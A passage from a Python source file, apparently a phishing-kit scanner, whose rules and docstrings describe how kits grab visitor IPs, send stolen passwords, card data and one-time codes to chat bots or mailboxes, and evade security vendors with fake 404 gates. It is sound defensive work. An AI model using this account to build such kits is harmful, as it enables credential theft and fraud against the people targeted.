        for a in _APPENDED.finditer(body):
            glued = interpolated(ctx, a.group(2))
            if glued.find(key) < 0 or glued.find(val) < 0:
                continue
            held = [b"$" + a.group(1)]
            held += [h for h, _rhs in _arrays_holding(code, held[0])]
            for start, args in calls_to(ctx, _SENDERS, 40):
                sent = interpolated(ctx, args)
                if start > m.end() and any(sent.find(h) >= 0 for h in held):
                    at = m.start()
                    return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
    if find(code, b"$_get") < 0:
        return None
    # the whole query string dumped into the message, no loop: print_r($_GET, true)
    for start, args in calls_to(ctx, _SENDERS, 40):
        if _QUERY_DUMP.search(_sent_text(ctx, args, 2)) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_QUERY_DUMP = tight(
    rb"(?<![\w$>:])(?:print_r|var_export|json_encode|http_build_query|serialize|implode)"
    rb"\s*\((?:\s*\x01\d+\x01\s*,)?\s*\$_get\b(?!\s*\[)"
)


_ADDRESS_KEYS = (
    b"remote_addr", b"http_x_forwarded_for", b"http_cf_connecting_ip", b"http_client_ip",
)


@feature("visitor_grabbed")
def _visitor_grabbed(ctx: Ctx, rule: Rule) -> Hit | None:
    """An IP grabber: the visitor's address glued into a message for a Telegram bot or a
    Discord webhook, then the visitor sent to another site (a video, a picture) by a literal
    redirect: a link that records who opened it. No form field is in the message; a shop's
    order notice reports an order and thanks its customer on its own pages."""
    text = string_text(ctx)
    if not _chat_drop(text) or not any(find(text, k) >= 0 for k in _ADDRESS_KEYS):
        return None
    code = ctx.code
    if _auth_used(ctx):
        return None
    value = ctx.lx.value
    bodies = function_bodies(ctx)
    brand_page: bool | None = None  # asked once, at the first report without a redirect
    for start, args in _visit_reports(ctx, bodies):
        sent = _sent_text(ctx, args, 3)
        if _FIELD_READ.search(sent) is not None:
            continue  # a form's fields reported (an order), not only who opened the link
        # and the file's own helpers the text calls (a get_ip() returning REMOTE_ADDR)
        texts = [sent] + [
            body for c in itertools.islice(_OWN_CALL.finditer(sent), 8)
            if (body := bodies.get(c.group(1))) is not None and len(body) < 2000
        ]
        if not any(
            value(int(q.group(1))).strip().lower() in _ADDRESS_KEYS
            for t in texts for q in itertools.islice(PLACEHOLDER.finditer(t), 200)
        ):
            continue
        at = _redirects(ctx, code[start:])
        if at < 0:
            if brand_page is None:
                brand_page = _brand_signin_title(ctx)
            if brand_page:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
            continue
        q = PLACEHOLDER.match(code, start + at)
        if q is not None and _DOWNLOAD.search(ctx.lx.value(int(q.group(1))).lower()):
            continue  # a download counter: the owner told, the visitor given the file
        return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


def _visit_reports(ctx: Ctx, bodies: dict[bytes, bytes]) -> list[tuple[int, bytes]]:
    """The calls that may send a report to the chat: the senders (:data:`_SENDERS`) outside
    the file's own functions, and the calls of those of its functions whose body sends
    (``sendTelegramMessage($bot, $chat, "Visitor IP: $ip")``): the text is written where
    the helper is called, not in the helper."""
    code = ctx.code
    inside = [b for b in bodies.values() if any(find(b, n) >= 0 for n in _SENDERS)]
    out = [(s, a) for s, a in calls_to(ctx, _SENDERS, 40)]
    helpers = tuple(
        n for n, b in itertools.islice(bodies.items(), 40)
        if b in inside and _NAME_ONLY.fullmatch(n) is not None
    )
    for start, args in (calls_to(ctx, helpers, 20) if helpers else []):
        if not any(find(b, code[start : start + 60]) >= 0 for b in inside):
            out.append((start, args))  # a call outside the helpers (not a helper's own)
    return out


_NAME_ONLY = tight(rb"[a-z_][a-z0-9_]{0,60}")
# the title of a page that imitates a service's sign-in or check ("Netflix - Captcha",
# "PayPal: Log in", "Microsoft account | Verify"): a brand and what the page asks for
_TITLE = tight(rb"<title[^>]{0,80}>([^<]{1,160})</title")
_SIGNIN_WORD = tight(
    rb"log ?in|log ?on|sign ?in|captcha|verif\w*|secur\w*|account|confirm\w*|update|"
    rb"locked|suspend\w*|unlock|authenticat\w*|wallet"
)


def _brand_signin_title(ctx: Ctx) -> bool:
    """The page's own HTML (outside PHP, or echoed) is titled as a service phishing pages
    imitate, asking for a sign-in or a check (:data:`_BRAND` with :data:`_SIGNIN_WORD`):
    a kit's page, whose visits are reported to the operator's chat."""
    for m in itertools.islice(_TITLE.finditer(string_text(ctx)), 3):
        title = m.group(1)
        if _BRAND.search(title) is not None and _SIGNIN_WORD.search(title) is not None:
            return True
    return False


# a redirect that hands over a document or an archive
_DOWNLOAD = tight(
    rb"\.(?:pdf|zip|rar|7z|tar|gz|tgz|docx?|xlsx?|pptx?|odt|ods|epub|exe|msi|dmg|apk|deb|rpm)"
    rb"(?:[?#][^'\"\s]*)?\s*$"
)


_ARRAY_HOLDS = tight(rb"\$(" + NAME_P + rb")\s*=\s*(?:array\s*\(|\[)([^;]{1,400})")


def _arrays_holding(code: bytes, held: bytes) -> list[tuple[bytes, bytes]]:
    """Variables set to an array that holds ``held`` (``$payload = ['content' => $msg]``):
    the message packed before it is sent."""
    return [
        (b"$" + a.group(1), a.group(2))
        for a in itertools.islice(_ARRAY_HOLDS.finditer(code), 50)
        if a.group(2).find(held) >= 0
    ]


@feature("credentials_dropped")
def _credentials_dropped(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's handler: the visitor's form fields, a password or card field among
    them, sent away: mailed to a hard-coded address or to one its config file gives (with
    the visitor's address in the text), sent to a Telegram bot or another literal web
    address, or appended to a file (the kit's results log)."""
    hit = _credentials_dropped_fixed(ctx)
    if hit is None and has_word(ctx, b"mail"):
        hit = _kit_recipient_drop(ctx)
    if hit is None and has_any(ctx, (b"file_get_contents", b"curl_init", b"fopen")):
        hit = _telegram_fields(ctx)
    if hit is None and has_any(ctx, (b"execute", b"query", b"mysqli_query")):
        hit = _card_code_stored(ctx)
    return hit



# the services phishing pages imitate: banks, payments, mail and cloud accounts, shops and
# carriers, social networks, crypto exchanges and wallets, tax and benefit portals
_BRAND = tight(
    rb"\b(?:chase|paypal|wells ?fargo|bank ?of ?america|citi(?:bank|zens)?|huntington|"
    rb"navy ?federal|usaa|td ?bank|capital ?one|truist|pnc|santander|barclays|hsbc|"
    rb"lloyds|natwest|halifax|monzo|revolut|cibc|rbc|scotiabank|desjardins|interac|bmo|"
    rb"commbank|westpac|rabobank|abn ?amro|sparkasse|postbank|bbva|caixa|itau|"
    rb"bradesco|nubank|credit ?agricole|societe ?generale|la ?banque ?postale|ameli|"
    rb"venmo|zelle|cash ?app|chime|apple|icloud|itunes|microsoft|office ?365|o365|outlook|"
    rb"hotmail|onedrive|sharepoint|gmail|google|yahoo|aol|at&t|comcast|xfinity|"
    rb"verizon|roundcube|webmail|zimbra|godaddy|netflix|spotify|amazon|ebay|dhl|usps|"
    rb"fedex|royal ?mail|la ?poste|correos|facebook|instagram|whatsapp|tiktok|linkedin|"
    rb"adobe|dropbox|docusign|wetransfer|binance|coinbase|kraken|metamask|trust ?wallet|"
    rb"blockchain|irs|hmrc|mygov|centrelink|canada ?post|service ?canada)\b"
)
# what a kit calls the text it sends: the results of one victim, a login, codes, card data
_RESULT_WORD = tight(
    rb"\b(?:log ?in|logon|logs?|sign ?in|results?|rezults?|resultz|fullz|otp|sms|vbv|"
    rb"pass(?:word)?|credentials?)\b"
)


@feature("brand_results_sent")
def _brand_results_sent(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's results, whatever its fields are called: a text sent to a fixed
    place (mailed to a literal address or to the one the kit's config gives, posted to a
    chat bot or a literal web address) in a script that reads the request, where one
    literal of the text names an imitated service with what was taken ("Chase LOGIN",
    "SPOTIFY Login [$ip]", "Office365 VERIFIED", "Mygov Logs"). A site's own mail names its
    own shop, or a payment service with an order (no login, code or card of the visitor);
    a site's own sign-in checks the password."""
    if not has_any(ctx, _FORM_WORDS) or _auth_used(ctx):
        return None
    value = ctx.lx.value
    for start, sent in _drops(ctx):
        if ctx.code.startswith(_FILE_WRITES, start):
            continue  # a file the site keeps (a log, an order list)
        text = _sent_text(ctx, sent, 3)
        for p in itertools.islice(PLACEHOLDER.finditer(text), 200):
            lit = value(int(p.group(1))).lower()
            if len(lit) > 300:
                continue
            brand = _BRAND.search(lit)
            if brand is None or _RESULT_WORD.search(lit) is None:
                continue
            return Hit(ctx.line_of_code(start), excerpt(
                b"sent away: " + value(int(p.group(1))).strip()[:60]))
    return None


# a database write: PDO's execute(), query(), mysqli_query()... and the text it is given
_DB_WRITE = tight(
    rb"(?:->|(?<![\w$>:]))(?:execute|query|mysqli_query|pg_query|exec)\s*\(([^;]{0,400})"
)
_CARD_CODE_KEY = tight(rb"cvv|cvc|\bcsc\b|cvn|card_?code|security_?code")


def _card_code_stored(ctx: Ctx) -> Hit | None:
    """A card's security code (CVV) that the visitor typed, written into a database with
    another form field: no shop keeps it (the card rules forbid storing it; the payment
    provider's form takes it), a kit collecting cards does."""
    if string_text(ctx).find(b"insert") < 0:
        return None
    read = {ctx.lx.value(int(m.group(1))).lower().strip()
            for m in itertools.islice(_FIELD_READ.finditer(ctx.code), 200)}
    if not any(_CARD_CODE_KEY.search(k) for k in read):
        return None
    for m in itertools.islice(_DB_WRITE.finditer(ctx.code), 20):
        keys = _request_keys(ctx, _sent_text(ctx, m.group(1), 3))
        if len(keys) >= 2 and any(_CARD_CODE_KEY.search(k) for k in keys):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


# a row written to a database, the statement run or its values bound
_DB_STORE = tight(
    rb"(?:->|(?<![\w$>:]))(?:execute|query|mysqli_query|pg_query|exec|bind_param|bindparam|"
    rb"bindvalue|mysqli_stmt_bind_param)\s*\(([^;]{0,400})"
)


@feature("password_stored_sent_away")
def _password_stored_sent_away(ctx: Ctx, rule: Rule) -> Hit | None:
    """A cloned sign-in page's handler: the typed address and password written as they came
    into a database row (an INSERT, the values bound or glued in), then the visitor sent on
    to the genuine service's front or sign-in page, written whole, so the login seems to
    have gone through. A site's own sign-up hashes the password and keeps its visitor on its
    own pages; a sign-in checks the password (:func:`_auth_used`)."""
    if string_text(ctx).find(b"insert") < 0 or _auth_used(ctx):
        return None
    code = ctx.code
    value = ctx.lx.value
    for m in itertools.islice(prefiltered_finditer(_DB_STORE, code, ctx.first), 20):
        sent = _sent_text(ctx, m.group(1), 3)
        keys = _request_keys(ctx, sent)  # glued in, or listed as the values bound
        keys.update(value(int(f.group(1))).lower().strip() for f in _FIELD_READ.finditer(sent))
        if len(keys) < 2 or not any(_CREDENTIAL_KEY.search(k) for k in keys):
            continue
        # a sign-up of a site's own sends its new member to its own front page
        if _genuine_site_redirect(ctx, m.start(), brand_front=True) >= 0:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


def _element_keys(ctx: Ctx, text: bytes, name: bytes) -> set[bytes]:
    """The literal keys of ``$name[...]`` read in ``text`` (in code, or written inside a
    double-quoted literal): the fields of a request array the script holds whole."""
    keys: set[bytes] = set()
    held = b"$" + name
    if find(text, held) >= 0:  # else the pattern, which starts with it, cannot match
        code_el = re.compile(rb"\$" + re.escape(name) + rb"\s*\[\s*\x01(\d+)\x01\s*\]")
        for m in itertools.islice(code_el.finditer(text), 40):
            keys.add(ctx.lx.value(int(m.group(1))).lower().strip())
    lit_el: re.Pattern[bytes] | None = None  # compiled at the first literal that holds $name
    for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
        lit = ctx.lx.value(int(p.group(1))).lower()
        if find(lit, held) >= 0:
            if lit_el is None:
                lit_el = re.compile(rb"\$" + re.escape(name) + rb"\s*\[\s*['\"]?([\w-]{1,40})")
            keys.update(lit_el.findall(lit))
    return keys


def _php_source(ctx: Ctx, text: bytes) -> bool:
    """A literal of ``text`` (the first 100) opens PHP code: the file written is a script (an
    installer's ``config.php``), not a results log."""
    return any(
        ctx.lx.value(int(p.group(1))).lstrip()[:5].lower() == b"<?php"
        for p in itertools.islice(PLACEHOLDER.finditer(text), 100)
    )


_SOCKET_WRITES = (b"fwrite", b"fputs")
_SOCKET_OPEN_AT = tight(rb"^\s*@?\s*(?:fsockopen|pfsockopen|stream_socket_client)\s*\(")


def _socket_to_visitor_host(ctx: Ctx, start: int) -> bool:
    """The write at ``start`` goes to a connection opened to a host the request names
    (``$s = fsockopen($_POST['smtp_host'], ...)``, or a variable set from it): the visitor
    chooses where the text goes, so it is no drop of the visitor's to a place of the
    script's (a settings page testing the mail server's login it was given)."""
    code = ctx.code
    if not code.startswith(_SOCKET_WRITES, start):
        return False
    paren = code.find(b"(", start)
    handle = VAR.match(first_arg(code[paren + 1 : paren + 300]).strip().lstrip(b"@"))
    if handle is None:
        return False
    for _pos, m in var_assigns(code, handle.group(1), TAIL_RHS, 3):
        opened = _SOCKET_OPEN_AT.match(m.group(1))
        if opened is None:
            continue
        host = first_arg(m.group(1)[opened.end() :])
        texts = [host]
        for v in VAR.findall(host)[:2]:
            texts += [am.group(1) for _, am in var_assigns(code, v, TAIL_RHS, 3)]
        if any(UIN_RE.search(t) is not None for t in texts):
            return True
    return False


def _credentials_dropped_fixed(ctx: Ctx) -> Hit | None:
    """A phishing kit's handler: the visitor's form fields, a password or card field among
    them, glued into a text that is mailed to a hard-coded address, sent to a Telegram bot
    or another literal web address, or appended to a file (the kit's results log).
    A site's own forms check a password (password_verify, wp_signon) or mail it to the
    visitor's own address, never to a fixed one."""
    if (
        not has_any(ctx, _DROP_SINKS)
        and not has_any(ctx, _CHAT_HELPER_WORDS)
        and (
            (find(ctx.code, b"post") < 0 and find(ctx.code, b"->request") < 0)
            or _CLIENT_POST.search(ctx.code) is None
        )
    ):
        return None
    for start, sent in _drops(ctx):
        text = _sent_text(ctx, sent, 3)
        if ctx.code.startswith(_FILE_WRITES, start) and _php_source(ctx, text):
            continue  # an installer writing its config file (the database password in it)
        keys = _request_keys(ctx, text)
        if len(keys) < 2 and find(text, b"$_") >= 0:
            keys |= _whole_array_keys(ctx, text)
        if len(keys) < 2 and VAR.search(text) is not None:
            # variables the taint pass saw hold a request value as it came ($email = $data;
            # $data = $_GET['data']), by their own names; and, in a file that makes the
            # request's fields into variables (extract($_REQUEST)), those it never sets
            taint(ctx)
            req = ctx.cache["direct"]
            found = itertools.islice(VAR.finditer(interpolated(ctx, text)), 40)
            names = {v.group(1) for v in found}
            keys |= {b"$" + n for n in (names & req) | visitor_filled(ctx, names)}
            # the elements of a request array read whole ($d = json_decode($raw, true);
            # "Pass: {$d['password']}"): each by its key
            for n in itertools.islice(names & req, 5):
                keys |= _element_keys(ctx, text, n)
            # an array of request fields made first ($data = ['email' => $_POST['email'],
            # 'password' => $_POST['password']] + [...]; json_encode($data)): its fields
            for n in sorted(names)[:5]:
                made = search_named(rb"\s*=(?![=>])([^;]{1,600});", ctx.code, n)
                if made is not None:
                    keys |= _request_keys(ctx, made.group(2))
        if len(keys) >= 2 and (
            any(_CREDENTIAL_KEY.search(k) for k in keys) or _credential_label(ctx, text)
        ):
            if _credential_hashed(ctx, keys):
                continue  # a site's sign-up: it stores the password hashed (and tells itself)
            if _socket_to_visitor_host(ctx, start):
                continue  # a login test of the server the visitor typed (an SMTP test page)
            if (ctx.code.startswith(_FILE_WRITES, start)
                    and (_database_settings(keys) or _server_settings(keys))
                    and not _visitor_written(ctx, text)):
                # a setup page writing the database's host, user and password, or a
                # settings page writing the account of the site's own mail (FTP, LDAP)
                # server (a kit that names a field so writes its victim's address with it)
                continue
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        # one step of a kit that sends each page on its own (the password page, the SMS-code
        # page): one password, OTP or card field to a chat bot, and no check of it here
        if (len(keys) == 1 and _CREDENTIAL_KEY.search(next(iter(keys))) is not None
                and (_chat_drop(string_text(ctx)) or _chat_helper_at(ctx, start))
                and not _auth_used(ctx) and not _compared_field(ctx)):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        # the sign-in code step of such a kit: the code the visitor typed, labelled as one,
        # with the visitor's address, to a chat bot
        if _code_step(ctx, keys, text) and _chat_drop(string_text(ctx)):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        # a card collector: the card number the visitor typed, whole, appended to a text file
        # (no shop keeps one so: the payment provider takes it; a receipt keeps the last four)
        if (len(keys) == 1 and ctx.code.startswith(_FILE_WRITES, start)
                and _CARD_NUMBER_KEY.search(next(iter(keys)).lstrip(b"$")) is not None
                and _MASKED.search(text) is None and not _auth_used(ctx)):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# a card number's field: ccnum, cc_number, card_no, cardnumber, credit_card
_CARD_NUMBER_KEY = tight(
    rb"^(?:cc_?(?:num|number|no)|card_?(?:num|number|no)|credit_?card(?:_?(?:num|number|no))?)$"
)
# a number cut or masked before it is written: substr($n, -4), str_repeat('*', 12), '****'
_MASKED = tight(rb"substr|str_repeat|str_pad|mb_substr|\*\*\*|\bx{4}")


# a request array sent whole (['body' => $_POST], http_build_query($_REQUEST)): no element
_SENT_WHOLE = tight(rb"\$_(post|get|request)\b(?!\s*\[)")


def _whole_array_keys(ctx: Ctx, text: bytes) -> set[bytes]:
    """The fields of a request array that ``text`` sends whole (``wp_remote_post($url,
    ['body' => $_POST])``), by the keys the file reads of that array elsewhere
    (``isset($_POST['log'], $_POST['pwd'])``): the whole carries them. A form's webhook to a
    CRM sends a contact form's fields; a grabber hooked into a sign-in form tests for its
    password."""
    arrays = {m.group(1) for m in itertools.islice(_SENT_WHOLE.finditer(text), 5)}
    if not arrays:
        return set()
    keys: set[bytes] = set()
    for m in itertools.islice(_FIELD_READ.finditer(ctx.code), 200):
        if ctx.code[m.start() + 2 : m.start() + 9].split(b"[")[0].strip() in arrays:
            keys.add(ctx.lx.value(int(m.group(1))).lower().strip())
    if b"request" in arrays and find(ctx.code, b"request") >= 0:
        # a framework's request object sent whole ($request->all() reads as $_request):
        # the fields its tests and rules name ($request->filled('cvv'), ->validate([...]))
        # and its fields read as properties ($request->password)
        for m in itertools.islice(_FRAMEWORK_FIELDS.finditer(ctx.code), 50):
            if m.group(1) is not None:
                keys.add(m.group(1))
                continue
            rest = ctx.code[m.end() : m.end() + 400]
            for p in itertools.islice(PLACEHOLDER.finditer(rest[: close_paren(rest)]), 20):
                keys.add(ctx.lx.value(int(p.group(1))).lower().strip())
    if keys:
        keys.add(_WHOLE)  # the whole form: the fields named and any others it has
    return keys


_WHOLE = b"(the whole request)"
# Laravel's request object: a field read as a property ($request->password, not a call), or
# the fields a test or a validation names ($request->filled('cvv'), ->validate([...]))
_FRAMEWORK_FIELDS = tight(
    rb"(?:\$request|(?<![\w$>:\\])request\s*\(\s*\))\s*->\s*(?:(?!(?:all|only|except|input|"
    rb"get|post|query|validated|collect|ip|user|session|route|header|headers|method|path|url|"
    rb"fullurl|cookie|file|files|server|attributes|request)\b)([a-z_][a-z0-9_]{0,40})\b(?!\s*\()|"
    rb"(?:filled|has|hasany|missing|boolean|validate|validatewithbag)\s*\()"
)


def _literals_named_visitor(ctx: Ctx, text: bytes) -> bool:
    """A literal of ``text`` (the first 100) names the visitor: ``$_SERVER['REMOTE_ADDR']``,
    the user agent."""
    return any(
        _VISITOR_MARK.search(ctx.lx.value(int(p.group(1))).lower()) is not None
        for p in itertools.islice(PLACEHOLDER.finditer(text), 100)
    )


def _visitor_written(ctx: Ctx, text: bytes) -> bool:
    """The text written holds the visitor's address or user agent: read there, or through a
    variable set from it (``$ip = $_SERVER['REMOTE_ADDR']; ... "IP: $ip"``). A kit's results
    log records its victim; an installer's settings file does not."""
    if _literals_named_visitor(ctx, text):
        return True
    found = itertools.islice(VAR.finditer(interpolated(ctx, text)), 40)
    for name in {v.group(1) for v in found}:
        for _, m in var_assigns(ctx.code, name, _GIVEN, 5):
            if _literals_named_visitor(ctx, m.group(1)):
                return True
    return False


# the fields of a database connection's settings: its host or server, and the database
_DB_HOST_KEY = tight(rb"(?:^|[_-])(?:db|sql|mysql)?(?:host(?:name)?|server(?:name)?)$")
_DB_WORD_KEY = tight(
    rb"(?:^|[_-])(?:db|database|mysql|mysqli|sql|pdo|pgsql|postgres)(?:[_-]|$)|"
    # or run together with the setting it names: "dbname", "dbuser", "dbpass", "mysqlhost"
    rb"^(?:db|database|mysql|sql|pg)(?:host|name|user(?:name)?|pass(?:word|wd)?|pwd|server|port|prefix)$"
)


def _database_settings(keys: set[bytes]) -> bool:
    """Whether the fields are a database's connection settings (a host or server field, and
    fields named for the database: ``MySQL_Server``, ``MySQL_User``, ``MySQL_Password``, or
    ``dbhost``, ``dbname``, ``dbuser`` run together): an installer writing its
    configuration. A kit's victim types a login, not a database host."""
    names = [k.lstrip(b"$").lower() for k in keys]
    return any(_DB_HOST_KEY.search(n) for n in names) and any(_DB_WORD_KEY.search(n) for n in names)


# a field naming the host of a server the site itself connects to: its mail server
# ("smtpHost", "smtp_server", "imaphost"), an FTP, SFTP or LDAP server
_SERVER_HOST_KEY = tight(
    rb"(?:smtp|imap|pop3?|s?ftp|ldap)[_-]?(?:host(?:name)?|server(?:name)?)$"
)


def _server_settings(keys: set[bytes]) -> bool:
    """Whether a field of ``keys`` is the host of a mail, FTP or LDAP server
    (``inputSmtpHost``, ``smtp_server``): a settings page keeping the account the site sends
    its own mail (or backups) with. A kit's victim types a login, not the host of a server."""
    return any(_SERVER_HOST_KEY.search(k.lstrip(b"$").lower()) for k in keys)


def _credential_hashed(ctx: Ctx, keys: set[bytes]) -> bool:
    """Whether a password field among ``keys`` (request keys, or ``$names`` of variables
    that hold one) is hashed for storage (password_hash(), crypt()): a site's own sign-up
    or account page, which keeps the password as a hash; a kit passes it on as typed."""
    code = ctx.code
    wanted: list[bytes] = []
    props: list[bytes] = []  # fields a framework's request object reads as its properties
    for k in keys:
        if _CREDENTIAL_KEY.search(k) is None:
            continue
        if k.startswith(b"$"):
            wanted.append(k)
            continue
        if _PROP_KEY.fullmatch(k) is not None:
            props.append(k)
        for m in itertools.islice(_FIELD_READ.finditer(code), 200):
            if ctx.lx.value(int(m.group(1))).lower().strip() != k:
                continue
            wanted.append(m.group(0))
            got = assignment_before(code, m.start())
            if got is not None:
                wanted.append(b"$" + got[0])
    if not wanted and not props:
        return False
    hashed = [first_arg(args) for _start, args in calls_to(
        ctx, (b"password_hash", b"wp_hash_password", b"crypt", b"bcrypt"), 20)]
    if find(code, b"hash") >= 0:  # Laravel's Hash::make($request->password)
        hashed.extend(m.group(1) for m in itertools.islice(_HASH_MAKE.finditer(code), 20))
    for arg in hashed:
        for w in wanted:
            if next(var_mentions(arg, w[1:], 1), None) is not None:  # its first "$w" whole
                return True
        for k in props:
            if re.search(rb"->\s*" + re.escape(k) + rb"\b(?!\s*\()", arg) is not None:
                return True
    return False


_PROP_KEY = tight(rb"[a-z_][a-z0-9_]{0,40}")
_HASH_MAKE = tight(rb"(?<![\w$>:\\])\\?hash\s*::\s*make\s*\(([^;]{0,200})")


# a one-time code's field: "code", "sms_code", "otp", "2fa_code", "twoFactAuthConfCode"
_CODE_KEY = tight(
    rb"^(?:(?:sms|otp|2fa|mfa|tfa|auth|verif\w*|security|login|access|one_?time)[_-]?)?code$|"
    rb"^(?:otp|sms|2fa|mfa)$|two_?fact"
)
# the label a kit writes before that code in what it sends ("SMS code: ", "CODE : ", "2FA: ")
_CODE_LABEL = tight(
    rb"(?:sms|otp|2fa|mfa|verification|security|auth\w*|one[- ]time|login|access)\s*code|"
    rb"(?:^|\n)\s*(?:code|otp|2fa)\s*[:=]"
)

# a label that names nothing but a code the visitor received to sign in ("SMS code", "OTP
# code", "2FA code", "one-time code"): no shop, ticket or access code is called that
_SIGNIN_CODE_LABEL = tight(rb"(?:sms|otp|2fa|mfa|one[- ]time)\s*code")


def _code_step(ctx: Ctx, keys: set[bytes], text: bytes) -> bool:
    """One form field (or two or three), each a one-time code by its name
    (:data:`_CODE_KEY`), and a label of such a code in the text sent (:data:`_CODE_LABEL`),
    sent with the visitor's address or user agent (or labelled as an SMS, OTP or 2FA code,
    which needs no address to tell), in a script that neither checks a password nor
    compares the code with one it keeps: a kit passing on the code its victim received. A
    site's own sign-in compares the code; a shop's promo code is not labelled as a sign-in
    code and carries no visitor address."""
    names = {k.lstrip(b"$") for k in keys}  # the field, and the variable that holds it
    # one code field, or a few (the SMS code and the authenticator's code of one step)
    if not 1 <= len(names) <= 3 or any(_CODE_KEY.search(n) is None for n in names):
        return False
    lits = [ctx.lx.value(int(p.group(1))).lower()
            for p in itertools.islice(PLACEHOLDER.finditer(text), 200)]
    if not any(_CODE_LABEL.search(lit) for lit in lits):
        return False
    if not any(_VISITOR_MARK.search(lit) or _SIGNIN_CODE_LABEL.search(lit) for lit in lits):
        return False
    return not _auth_used(ctx) and not _compared_field(ctx)


def _compared_field(ctx: Ctx) -> bool:
    """The script compares a value with one it keeps in the session (``$_POST['otp'] ==
    $_SESSION['otp']``): a site checking the code it sent, not passing the field on."""
    return _SESSION_COMPARE.search(ctx.code) is not None


_SESSION_COMPARE = tight(
    rb"[!=]==?\s*\$_session\b|\$_session\s*\[[^\]]{0,60}\]\s*[!=]==?(?!>)"
)


# hostnames and names of anti-phishing, security and crawler companies that kits refuse
_SECURITY_NAMES = tight(
    rb"phishtank|cyveillance|netcraft|phishlabs|markmonitor|trendmicro|websense|"
    rb"bitdefender|kaspersky|forcepoint|zscaler|brandprotect|opendns|spamhaus|"
    rb"surbl|avast|sucuri|ahrefs|semrush|virustotal|urlscan|paloalto|fortinet"
)
# the SEO crawlers among them, which sites keep out to save bandwidth: a list that names
# no one else is no kit's (a kit's names the scanners that would report it)
_SEO_CRAWLERS = frozenset({b"ahrefs", b"semrush"})
# an address pattern or prefix of an IP blocklist: "^66.102.*.*", "64.233.160.*", "66.249."
# (not a version number: "5.2.1")
_IP_PREFIX = tight(rb"^(?:\^\d{1,3}\.\d{1,3}|\d{1,3}\.\d{1,3}\.(?:\d{1,3}\.)?(?:\*|$))")
_VISITOR = (b"remote_addr", b"http_user_agent", b"http_x_forwarded_for", b"http_client_ip")
_GATE_ACTION = tight(rb"404 not found|403 forbidden|location:")
# an address, prefix or range of the networks of Google's and Microsoft's crawlers and link
# checkers ("66.249.64.0/19", "^74.125.*.*", "64.233.160."): a list of them that the visitor's
# address is tested against is a list of whom to hide from (no site refuses Googlebot)
_CRAWLER_NET = tight(
    rb"^\^?(?:66\.249|66\.102|64\.233|72\.14|74\.125|209\.85|216\.239|173\.194|172\.217|"
    rb"142\.250|108\.177|8\.8|207\.46|157\.55|40\.77|65\.52)\.[\d*]"
)
# a range, not one address: a CIDR block ("/19"), a wildcard ("66.249.*.*") or a prefix ("66.")
_RANGE_FORM = tight(rb"/\d{1,2}$|\*|\.$")
# the text of a web server's own error page, written into a script: a kit's gate answers the
# visitors it refuses with a fake "404 Not Found" or "403 Forbidden" as if the page were not
# there (a site's own refusal says why, in its own words)
_FAKE_SERVER_ERROR = tight(
    rb"was not found on this (?:\w+ )?server|don'?t have permission to access /|"
    rb"-//ietf//dtd html 2\.0//en|<h1>(?:not found|forbidden)</h1>"
)
# what a gate does with the visitor's address, host name or agent: look it up, compare it
_VISITOR_TESTS = tight(
    rb"(?<![\w$>:])(?:gethostbyaddr|in_array|substr_count|strpos|stripos|preg_match|ip2long|"
    rb"str_contains|str_starts_with|str_ends_with|"
    rb"curl_exec|file_get_contents)\s*\("
)


_VISITOR_HTTP = tuple(v for v in _VISITOR if v.startswith(b"http_"))
_VISITOR_OTHER = tuple(v for v in _VISITOR if not v.startswith(b"http_"))


def _visitor_named(text: bytes) -> bool:
    """``any(text.find(v) >= 0 for v in _VISITOR)``, with one search for "http_" before the
    words that start with it (most files have none of them: one scan, not one per word)."""
    if any(find(text, v) >= 0 for v in _VISITOR_OTHER):
        return True
    return find(text, b"http_") >= 0 and any(find(text, v) >= 0 for v in _VISITOR_HTTP)


# what every IP prefix holds: a digit, a dot, a digit
_DIGIT_DOT_DIGIT = tight(rb"\d\.\d")


def _antibot_candidates(ctx: Ctx, text: bytes) -> list[int]:
    """The literals (of the first 5,000) whose value may hold a security company's name or
    start with an IP prefix, in order: those whose text holds a name or a digit, a dot and a
    digit, and those with escapes. A value without escapes is its text (a single-quoted
    one's ``\\\\`` and ``\\'`` give no letter, digit or dot), so no other literal counts."""
    limit = min(len(ctx.lx.raw_strings), 5000)
    found = set(ctx.lx.escaped)
    # a match never spans the NUL between two literals; the names are searched for as
    # words (the alternation has no literal start for the regex engine to scan for)
    for m in prefiltered_finditer(_SECURITY_NAMES, text):
        found.add(string_at(ctx, m.start()))
    for m in _DIGIT_DOT_DIGIT.finditer(text):
        found.add(string_at(ctx, m.start()))
    found.discard(-1)  # the inline HTML is no literal
    return sorted(i for i in found if i < limit)


@feature("antibot_gate")
def _antibot_gate(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's anti-bot gate: the visitor's address, host name or user agent
    compared with a list of security companies (PhishTank, Netcraft, Kaspersky...) or of
    search-engine and scanner IP prefixes, and a fake "404 Not Found", a redirect or an
    exit for them: the page hides from the people who would report it."""
    text = string_text(ctx)
    if not _visitor_named(text) and not has_word(ctx, b"gethostbyaddr"):
        # the platform named by a helper of the kit's own (the user agent read elsewhere)
        return _platform_refusal(ctx, text) if find(text, b"linux") >= 0 else None
    action = prefiltered_search(_GATE_ACTION, text)
    if action is None and not (has_word(ctx, b"die") or has_word(ctx, b"exit")):
        return None
    vendors: set[bytes] = set()
    prefixes = 0
    crawler_nets = 0
    first_net = -1  # the first crawler range's literal, where the finding points
    value = ctx.lx.value
    # a literal's value holds a name only if its text does, unless a double-quoted escape
    # (\x6e) spells it: without those, no name in the text of them all is none in any
